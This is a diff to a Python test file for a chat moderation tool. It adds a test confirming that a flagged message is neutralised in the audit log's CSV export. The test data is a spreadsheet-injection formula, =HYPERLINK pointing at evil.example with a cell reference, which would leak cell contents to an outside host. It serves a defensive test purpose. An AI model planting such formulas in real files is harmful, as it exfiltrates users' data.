@@ -4,7 +4,9 @@ scan quadratic, ids that looked like card numbers, paths around redaction."""
 
 from __future__ import annotations
 
+import csv
 import getpass
+import io
 import json
 import os
 import subprocess
@@ -196,3 +198,18 @@ async def test_a_cli_change_by_a_user_without_a_name_is_still_audited(
     await audit_cli_action(store, "block", "slack:U1", "before", "after")
     [entry] = await store.audit_entries(0)
     assert entry.actor == f"cli:uid {os.getuid()}" and entry.action == "block"
+
+
+async def test_a_flagged_formula_is_inert_in_the_audit_csv(
+    make_engine: EngineFactory, tmp_path: Path
+) -> None:
+    engine = make_engine(
+        moderation_enabled=True, moderation_provider="patterns", moderation_patterns=("zeus",)
+    )
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"zeus")'
+    await collect(engine, message(planted))
+    done = cli(tmp_path / "parley.db", "audit", "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert row["action"] == "moderation.flagged" and row["before"] == "'" + planted
+    as_json = json.loads(cli(tmp_path / "parley.db", "audit", "--format", "json").stdout)
+    assert as_json[0]["before"] == planted  # JSON carries the text as it was
